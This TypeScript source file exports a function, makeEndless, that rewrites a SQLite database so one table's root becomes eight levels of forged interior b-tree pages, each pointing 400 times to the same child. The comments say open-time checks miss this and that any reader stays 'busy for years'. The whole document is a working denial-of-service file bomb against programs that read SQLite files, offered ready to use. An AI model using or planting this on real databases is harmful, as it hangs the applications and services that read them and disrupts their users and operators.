import { readFileSync, writeFileSync } from 'node:fs';
import { DatabaseSync } from '@photostructure/sqlite';

/** A page of a b-tree that leads to others (https://sqlite.org/fileformat.html, 1.6), and its children on it. */
const interiorPage = 5;
const [headerBytes, cellBytes] = [12, 5];
const childrenOnPage = 400;
const levels = 8;

/**
 * Makes a table of a few rows one of 400 ^ 8 times as many: the pages of its tree lead to the next level 400 times each. No check of
 * SQLite's when it opens a database finds that, and whoever reads the table is busy for years.
 */
export function makeEndless(file: string, table: string): void {
  const db = new DatabaseSync(file);
  const { rootpage: root } = db.prepare('SELECT rootpage FROM sqlite_schema WHERE name = ?').get(table) as {
    rootpage: number;
  };
  const { page_size: size } = db.prepare('PRAGMA page_size').get() as { page_size: number };
  db.close();
  const bytes = readFileSync(file);
  const pages = bytes.length / size;
  const rows = bytes.subarray((root - 1) * size, root * size);
  // The rows go to the page behind the last, the levels above them to those behind that.
  const added: Uint8Array[] = [Buffer.from(rows)];
  for (let level = 1; level < levels; level++) added.push(leadingTo(pages + level, size));
  leadingTo(pages + levels, size).copy(rows);
  const larger = Buffer.concat([bytes, ...added]);
  larger.writeUInt32BE(larger.length / size, 28);
  writeFileSync(file, larger);
}

function leadingTo(child: number, size: number): Buffer {
  const page = Buffer.alloc(size);
  const start = size - childrenOnPage * cellBytes;
  page.writeUInt8(interiorPage, 0);
  page.writeUInt16BE(childrenOnPage, 3);
  page.writeUInt16BE(start, 5);
  page.writeUInt32BE(child, 8);
  for (let cell = 0; cell < childrenOnPage; cell++) {
    const at = start + cell * cellBytes;
    page.writeUInt16BE(at, headerBytes + 2 * cell);
    page.writeUInt32BE(child, at);
    page.writeUInt8(1, at + 4);
  }
  return page;
}
